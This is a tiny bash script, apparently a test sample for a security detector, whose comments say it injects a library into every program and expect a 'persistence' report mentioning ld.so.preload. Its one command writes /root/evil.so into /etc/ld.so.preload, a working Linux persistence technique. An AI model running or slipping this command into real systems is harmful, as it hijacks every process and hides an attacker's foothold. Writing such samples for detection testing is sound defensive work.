#!/bin/bash
# does: puts its library into every program
# report: "id":"persistence".*ld.so.preload
echo /root/evil.so >/etc/ld.so.preload
